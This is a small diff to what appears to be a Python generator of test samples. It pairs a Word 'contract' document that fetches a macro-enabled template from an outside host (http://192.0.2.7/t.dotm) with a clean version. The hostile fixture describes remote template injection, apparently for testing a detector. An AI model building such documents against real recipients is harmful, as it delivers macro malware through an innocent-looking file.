@@ -154,7 +154,7 @@ def _template() -> Trick:
         "開くと、外部のひな形(マクロ入り)を取り込むWord文書",
         "a Word document that fetches a template with macros from outside when it is opened",
         "契約書.docx",
-        docx("契約書", template=f"{SITE}/t.dotm"),
+        docx("契約書", template="http://192.0.2.7/t.dotm"),
         docx("契約書"),
         ("docx",),
     )
